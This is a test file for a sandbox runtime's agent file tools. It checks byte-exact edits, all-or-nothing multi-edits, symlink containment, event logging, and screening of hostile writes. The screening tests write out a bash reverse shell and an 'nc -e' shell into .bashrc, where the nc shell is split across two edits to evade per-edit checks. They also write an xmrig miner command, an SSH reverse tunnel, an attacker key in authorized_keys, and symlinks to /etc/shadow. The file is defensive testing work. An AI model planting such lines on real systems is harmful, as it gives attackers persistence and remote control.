// Why: proves a session's file tools (write, read, str_replace also with replace_all, multi_edit,
// insert) work as an agent's editor does, inside a real sandbox, as the agent: bytes round-trip
// exactly, a multi_edit applies all its edits or none and names the one that failed, a symlink the
// agent planted cannot make Corral read or write a host file with root's rights, each operation is a
// tool call with its own step and id in the event log, and a file tool is screened on what it writes
// (a persistence place, a reverse shell in a shell start-up file — also one a multi_edit assembles —,
// a miner in a script) — flagged, or refused before anything is written when the policy blocks —
// while ordinary edits raise nothing.
// Real sandboxes, real processes, the kernel sensor on, inside the lab.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startFixture, labPolicy, type Fixture } from './helpers/lab-fixture.js';
import { fileCallResult } from '../src/session/file-tools.js';

let fx: Fixture;
before(async () => { fx = await startFixture([], 'labft'); });
after(async () => { await fx?.close(); });

test('file tools: write, read, str_replace and insert round-trip inside the sandbox, as the agent, one tool call each', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-basic' });
  try {
    const w = await s.file({ op: 'write', path: 'pkg/app/main.py', content: 'def add(a, b):\n    return a - b\n', step: 1, toolCallId: 'ed-1' });
    assert.ok(w.ok, w.problem);
    assert.equal(w.path, '/workspace/pkg/app/main.py');
    assert.equal(w.size, 32);
    const e = await s.file({ op: 'str_replace', path: '/workspace/pkg/app/main.py', old: 'a - b', new: 'a + b', step: 2, toolCallId: 'ed-2' });
    assert.ok(e.ok, e.problem);
    const i = await s.file({ op: 'insert', path: '~/pkg/app/main.py', line: 0, text: '"""Adds."""', step: 3, toolCallId: 'ed-3' });
    assert.ok(i.ok, i.problem);
    // what the agent's own shell sees, and who owns it (the agent, not root)
    const seen = await s.exec({ command: 'cat pkg/app/main.py; stat -c %u pkg/app/main.py', step: 4, toolCallId: 'sh-4' });
    assert.equal(seen.stdout, '"""Adds."""\ndef add(a, b):\n    return a + b\n65534\n');
    const r = await s.file({ op: 'read', path: 'pkg/app/main.py', step: 5, toolCallId: 'ed-5' });
    assert.ok(r.ok, r.problem);
    assert.equal(r.content?.toString(), '"""Adds."""\ndef add(a, b):\n    return a + b\n');
    assert.equal(r.truncated, false);
    // the file program's own protocol (size lines, headers, the edited text) is not handed out as output
    for (const x of [w, e, i, r]) assert.deepEqual([x.stdout, 'stdoutBytes' in x], ['', false]);
    // every byte value survives a write and a read; a capped read says more follows
    const bytes = Buffer.from(Array.from({ length: 512 }, (_, k) => k % 256));
    assert.ok((await s.file({ op: 'write', path: 'blob.bin', content: bytes, step: 6 })).ok);
    const back = await s.file({ op: 'read', path: 'blob.bin', step: 7 });
    assert.ok(back.content?.equals(bytes), 'binary content round-trips');
    const head = await s.file({ op: 'read', path: 'blob.bin', maxBytes: 10, step: 8 });
    assert.deepEqual([head.content?.length, head.truncated, head.size], [10, true, 512]);
    const dir = await s.file({ op: 'read', path: 'pkg', step: 9 });
    assert.deepEqual([dir.entries, dir.truncated, dir.size], [['app/'], false, 1]);
    // a listing larger than maxBytes keeps its whole names and says more follow
    await s.exec({ command: 'mkdir many && cd many && for i in $(seq 100 199); do : > "entry-$i.txt"; done', step: 9 });
    const many = await s.file({ op: 'read', path: 'many', maxBytes: 100, step: 9 });
    assert.equal(many.truncated, true);
    assert.equal(many.size, 100);
    assert.ok(many.entries!.length > 0 && many.entries!.every((e) => /^entry-1\d\d\.txt$/.test(e)), JSON.stringify(many.entries));
    // operations that do not apply say why, as the agent should read it; the file is untouched
    const twice = await s.file({ op: 'write', path: 'dup.txt', content: 'x = 1\nx = 1\n', step: 10 });
    assert.ok(twice.ok);
    const amb = await s.file({ op: 'str_replace', path: 'dup.txt', old: 'x = 1', new: 'x = 2', step: 11 });
    assert.equal(amb.ok, false);
    assert.match(amb.problem ?? '', /appears 2 times .*lines 1, 2/);
    const none = await s.file({ op: 'read', path: 'missing.txt', step: 12 });
    assert.equal(none.ok, false);
    assert.match(none.problem ?? '', /cannot read \/workspace\/missing\.txt: No such file or directory/);
    const past = await s.file({ op: 'insert', path: 'dup.txt', line: 9, text: 'y', step: 13 });
    assert.match(past.problem ?? '', /line 9 is past the end .*\(2 lines\)/);
    assert.equal((await s.file({ op: 'read', path: 'dup.txt', step: 14 })).content?.toString(), 'x = 1\nx = 1\n');
    await assert.rejects(s.file({ op: 'insert', path: 'dup.txt', line: -1, text: '' }), /line must be a whole number/);
    await assert.rejects(s.file({ op: 'read', path: 'a\0b' }), /NUL byte/);
    // nothing here is hostile: no alert from the screen or from the runtime rules watching the tool's own process
    await s.exec({ command: 'true', step: 15, syncSensor: true });
    assert.deepEqual(s.alertEvents.map((a) => a.payload.rule), []);
  } finally { await s.close(); }
  // the log: one tool call per operation, its kind, path and the process that did it
  {
    const starts = fx.rt.store.query({ episode: 'ft-basic', kind: ['toolcall.start'] });
    const edit = starts.find((ev) => ev.tool_call === 'ed-2')!;
    assert.equal(edit.step, 2);
    assert.equal(edit.payload.tool, 'file');
    assert.equal(edit.payload.file_op, 'str_replace');
    assert.equal(edit.payload.path, '/workspace/pkg/app/main.py');
    assert.equal(edit.payload.command, 'str_replace in /workspace/pkg/app/main.py');
    const execs = fx.rt.store.query({ episode: 'ft-basic', tool_call: 'ed-2', kind: ['exec'] });
    assert.ok(execs.some((ev) => (ev.payload.argv as string[])[0] === '/run/corral-file'), 'the edit ran as a process of its own tool call');
  }
});

test('file tools: a replace_all and a multi_edit edit as Claude Code\'s Edit and MultiEdit do, all edits or none, one tool call each', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-multi' });
  try {
    assert.ok((await s.file({ op: 'write', path: 'cfg.py', content: 'a = 1\nb = 1\nc = 2\n', step: 1 })).ok);
    const all = await s.file({ op: 'str_replace', path: 'cfg.py', old: '= 1', new: '= 10', replaceAll: true, step: 2, toolCallId: 'all-2' });
    assert.ok(all.ok, all.problem);
    assert.equal(all.size, 20);
    // in order, each edit to the text the ones before it left (edit 2 removes what edit 1 wrote)
    const me = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a = 10', new: 'a = 11 # QQ' }, { old: ' # QQ', new: '' }, { old: '= 10', new: '= 12', replaceAll: true }, { old: 'c = 2', new: 'c = 3' }], step: 3, toolCallId: 'me-3' });
    assert.ok(me.ok, me.problem);
    const cat = async (step: number): Promise<string> => (await s.exec({ command: 'cat cfg.py; stat -c %u cfg.py', step })).stdout;
    assert.equal(await cat(4), 'a = 11\nb = 12\nc = 3\n65534\n', 'as the agent\'s own shell sees it, owned by the agent');
    // one edit that does not apply: none is, and the problem names it (counted from 1) and why
    const miss = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a = 11', new: 'a = 0' }, { old: 'nowhere', new: 'x' }], step: 5, toolCallId: 'me-5' });
    assert.equal(miss.ok, false);
    assert.equal(miss.exitCode, 5);
    assert.equal(miss.problem, 'no edit was made (edit 2 of 2 failed): the old text does not appear verbatim in /workspace/cfg.py');
    // an old text that is not unique, without replace_all, is refused — as one edit of several, or alone
    const dup = await s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'c = 3', new: 'c = 4' }, { old: '= 1', new: '= 9' }], step: 6 });
    assert.match(dup.problem ?? '', /^no edit was made \(edit 2 of 2 failed\): the old text appears 2 times in \/workspace\/cfg\.py \(lines 1, 2\); it must be unique$/);
    const dupAll = await s.file({ op: 'str_replace', path: 'cfg.py', old: 'absent', new: 'x', replaceAll: true, step: 7 });
    assert.match(dupAll.problem ?? '', /^no replacement: the old text does not appear verbatim in \/workspace\/cfg\.py$/);
    assert.equal(await cat(8), 'a = 11\nb = 12\nc = 3\n65534\n', 'refused calls changed nothing');
    // a bad request is refused before it runs, naming the edit
    await assert.rejects(s.file({ op: 'multi_edit', path: 'cfg.py', edits: [{ old: 'a', new: 'b' }, { old: '', new: 'x' }] }), /file call: edit 2 of 2: old must not be empty/);
    await assert.rejects(s.file({ op: 'multi_edit', path: 'cfg.py', edits: [] }), /edits must be a non-empty list/);
    await assert.rejects(s.file({ op: 'str_replace', path: 'cfg.py', old: 'a', new: 'b', replaceAll: 'yes' as unknown as boolean }), /replaceAll must be true or false/);
    await s.exec({ command: 'true', step: 9, syncSensor: true });
    assert.deepEqual(s.alertEvents.map((a) => a.payload.rule), [], 'ordinary edits raise nothing');
  } finally { await s.close(); }
  const starts = fx.rt.store.query({ episode: 'ft-multi', kind: ['toolcall.start'] });
  const me = starts.find((ev) => ev.tool_call === 'me-3')!;
  assert.deepEqual([me.payload.file_op, me.payload.edits, me.payload.command], ['multi_edit', 4, 'multi_edit in /workspace/cfg.py (4 edits)']);
  const all = starts.find((ev) => ev.tool_call === 'all-2')!;
  assert.deepEqual([all.payload.file_op, all.payload.replace_all, all.payload.command], ['str_replace', true, 'str_replace (every occurrence) in /workspace/cfg.py']);
});

test('file tools cannot reach host files through a symlink the agent planted: they run as the agent, in the sandbox', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-link' });
  try {
    await s.exec({ command: 'ln -s /etc/shadow notes.txt && ln -s /etc/hostname host.txt', step: 1 });
    const shadow = await s.file({ op: 'read', path: 'notes.txt', step: 2 });
    assert.equal(shadow.ok, false, 'root on the host could read /etc/shadow; the agent cannot');
    assert.match(shadow.problem ?? '', /Permission denied|No such file/);
    const write = await s.file({ op: 'write', path: 'host.txt', content: 'owned\n', step: 3 });
    assert.equal(write.ok, false);
    assert.match(write.problem ?? '', /Read-only file system|Permission denied/);
    const etc = await s.file({ op: 'write', path: '/etc/cron.d/job', content: '* * * * * root true\n', step: 4 });
    assert.equal(etc.ok, false);
  } finally { await s.close(); }
});

test('file tools are screened on what they write: flagged by default, refused before writing when the policy blocks', async () => {
  const flag = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-flag' });
  try {
    const rc = await flag.file({ op: 'write', path: '.bashrc', content: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\n', step: 1, toolCallId: 'plant-1' });
    assert.ok(rc.ok, 'observed, not blocked: the write happened');
    const rules = rc.alerts.map((a) => a.payload.rule);
    assert.ok(rules.includes('persistence.file_written') || rules.some((r) => /persistence/.test(r)), `persistence flagged: ${rules}`);
    assert.ok(rc.alerts.some((a) => a.payload.category === 'reverse_shell'), `the written reverse shell is judged as shell code: ${rules}`);
    assert.ok(rc.alerts.every((a) => a.tool_call === 'plant-1' && a.step === 1));
    const miner = await flag.file({ op: 'write', path: 'run.sh', content: '#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.test:3333 -u wallet &\n', step: 2, toolCallId: 'plant-2' });
    assert.ok(miner.alerts.some((a) => a.payload.category === 'mining'), `a miner parked in a script is seen: ${miner.alerts.map((a) => a.payload.rule)}`);
  } finally { await flag.close(); }

  // A MultiEdit planting a reverse shell in ~/.bashrc is judged as a Write of what it leaves there: the
  // same findings, though neither of its new texts is a reverse shell alone (`nc -QQ`, then QQ → e).
  const findings = async (episode: string, plant: (s: Awaited<ReturnType<typeof fx.rt.createSession>>) => Promise<{ ok: boolean; problem?: string; alerts: { payload: { rule: unknown; category: unknown } }[] }>): Promise<string[]> => {
    const s = await fx.rt.createSession({ policy: labPolicy(), episode });
    try {
      assert.ok((await s.file({ op: 'write', path: '.bashrc', content: '# rc\nalias ll="ls -l"\n', step: 1 })).ok);
      const r = await plant(s);
      assert.ok(r.ok, r.problem);
      assert.equal((await s.file({ op: 'read', path: '.bashrc', step: 3 })).content?.toString(), 'nc -e /bin/sh 198.51.100.7 4444\nalias ll="ls -l"\n');
      return [...new Set(r.alerts.map((a) => `${a.payload.category}:${a.payload.rule}`))].sort();
    } finally { await s.close(); }
  };
  const byWrite = await findings('ft-rc-write', (s) => s.file({ op: 'write', path: '~/.bashrc', content: 'nc -e /bin/sh 198.51.100.7 4444\nalias ll="ls -l"\n', step: 2 }));
  const byMulti = await findings('ft-rc-multi', (s) => s.file({ op: 'multi_edit', path: '~/.bashrc', edits: [{ old: '# rc', new: 'nc -QQ /bin/sh 198.51.100.7 4444' }, { old: 'QQ', new: 'e' }], step: 2 }));
  assert.ok(byWrite.some((f) => f.startsWith('persistence:')) && byWrite.some((f) => f.startsWith('reverse_shell:')), `a Write of a reverse shell into ~/.bashrc: ${byWrite}`);
  assert.deepEqual(byMulti, byWrite, 'the MultiEdit raises what the Write raises');

  const block = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'ft-block' });
  try {
    const rc = await block.file({ op: 'str_replace', path: 'deploy.sh', old: 'x', new: 'ssh -fN -R 9000:localhost:22 tunnel@203.0.113.5', step: 1 });
    assert.equal(rc.exitCode, 126);
    assert.equal(rc.ok, false);
    assert.match(rc.stderr, /blocked before running/);
    const w = await block.file({ op: 'write', path: '.ssh/authorized_keys', content: 'ssh-ed25519 AAAA attacker\n', step: 2 });
    assert.equal(w.ok, false);
    const after = await block.exec({ command: 'ls -a .ssh 2>&1; echo end', step: 3 });
    assert.doesNotMatch(after.stdout, /authorized_keys/, 'a refused write writes nothing');
  } finally { await block.close(); }
});

test('file tools are screened like the shell: stray bytes do not hide code, ~/ credentials are seen, a file\'s name is not a command', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'ft-parity' });
  try {
    // bash runs a script with one Latin-1 byte in a comment; the code screen must still read it
    const latin1 = Buffer.concat([Buffer.from('#!/bin/sh\n# caf'), Buffer.from([0xe9]), Buffer.from('\nnohup ./xmrig -o stratum+tcp://pool.test:3333 -u w &\n')]);
    const miner = await s.file({ op: 'write', path: 'run.sh', content: latin1, step: 1, toolCallId: 'bytes-1' });
    assert.ok(miner.alerts.some((a) => a.payload.category === 'mining'), `a miner in a script with a non-UTF-8 byte is seen: ${miner.alerts.map((a) => a.payload.rule)}`);
    // the agent's `cat ~/.ssh/id_rsa` is a credential read; so is its editor's view of ~/.ssh/id_rsa (HOME is /workspace)
    await s.exec({ command: 'mkdir -p .ssh && printf k > .ssh/id_rsa', step: 2 });
    const key = await s.file({ op: 'read', path: '~/.ssh/id_rsa', step: 3, toolCallId: 'key-3' });
    assert.ok(key.alerts.some((a) => a.payload.rule === 'cmd_credential_file_read'), `credential read flagged: ${key.alerts.map((a) => a.payload.rule)}`);
    // the backstop for a write through a symlink the screen judged by its name: the persistence watch
    await s.exec({ command: 'ln -s .bashrc notes.txt', step: 4 });
    const link = await s.file({ op: 'write', path: 'notes.txt', content: 'echo hi\n', step: 5, toolCallId: 'link-5' });
    assert.ok(link.alerts.some((a) => a.payload.rule === 'persistence.file_written'), `write through a symlink to .bashrc seen: ${link.alerts.map((a) => a.payload.rule)}`);
  } finally { await s.close(); }
  // viewing a file whose name mentions a miner or the metadata address runs nothing: no finding, not refused
  const block = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'ft-names' });
  try {
    for (const [i, path] of ['docs/xmrig-setup.md', 'notes/169.254.169.254.txt'].entries()) {
      assert.ok((await block.file({ op: 'write', path, content: 'notes\n', step: 2 * i + 1 })).ok);
      const r = await block.file({ op: 'read', path, step: 2 * i + 2 });
      assert.equal(r.content?.toString(), 'notes\n', `${path}: ${r.problem}`);
      assert.deepEqual(r.alerts.map((a) => a.payload.rule), []);
    }
  } finally { await block.close(); }
});

test('file tools do not hang on a FIFO, handle newlines in names, and say plainly when a call timed out', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy('resources:\n  timeout: 20s\n'), episode: 'ft-odd' });
  try {
    await s.exec({ command: 'mkfifo pipe && mkdir d && touch "d/$(printf "a\\nb")" d/c', step: 1 });
    let step = 2;
    for (const op of [{ op: 'read' as const }, { op: 'write' as const, content: 'x' }, { op: 'str_replace' as const, old: 'a', new: 'b' }]) {
      const r = await s.file({ ...op, path: 'pipe', step: step++ });
      assert.equal(r.ok, false);
      assert.ok(r.durationMs < 10_000, `${op.op} on a FIFO answered at once, not at the timeout (${r.durationMs} ms)`);
      assert.match(r.problem ?? '', /cannot (read|write) \/workspace\/pipe: it is a FIFO/);
      assert.deepEqual(r.alerts.map((a) => a.payload.rule), []);
    }
    const nl = await s.file({ op: 'write', path: 'x\ny/f.txt', content: 'hi', step: step++ });
    assert.ok(nl.ok, `the parent directory of a path with a newline is created: ${nl.problem}`);
    assert.deepEqual((await s.file({ op: 'read', path: 'd', step: step++ })).entries, ['a\nb', 'c']);
  } finally { await s.close(); }
  const timedOut = fileCallResult({ op: 'read', path: '/workspace/big' }, '/workspace/big', { toolCallId: 't', step: 1, exitCode: 124, signal: null, durationMs: 120_004, timedOut: true, stdout: '', stderr: '', alerts: [], verdict: 'clean' });
  assert.match(timedOut.problem ?? '', /did not finish within the call's time limit \(120 s\)/);
});

test('with the command screen off, the file tool\'s own process raises nothing for the path it was given', async () => {
  const off = await startFixture([], 'labft2', { commandCheck: false });
  try {
    const s = await off.rt.createSession({ policy: labPolicy(), episode: 'ft-noscreen' });
    try {
      assert.ok((await s.file({ op: 'write', path: 'notes/169.254.169.254.txt', content: 'x', step: 1 })).ok);
      assert.ok((await s.file({ op: 'write', path: 'docs/xmrig -o stratum+tcp:/pool.test.md', content: 'x', step: 2 })).ok);
      assert.ok((await s.file({ op: 'read', path: 'notes/169.254.169.254.txt', step: 3 })).ok);
      // a path longer than the sensor's argv cap (the path travels on stdin, so the recorded argv stays whole and is known as Corral's own)
      const long = `169.254.169.254/${Array.from({ length: 19 }, (_, i) => `${i}`.padEnd(200, 'd')).join('/')}/f.txt`;
      const w = await s.file({ op: 'write', path: long, content: 'deep\n', step: 5 });
      assert.ok(w.ok, w.problem);
      assert.equal((await s.file({ op: 'read', path: long, step: 6 })).content?.toString(), 'deep\n');
      await s.exec({ command: 'true', step: 4, syncSensor: true });
      assert.deepEqual(s.alertEvents.map((a) => a.payload.rule), []);
    } finally { await s.close(); }
  } finally { await off.close(); }
});
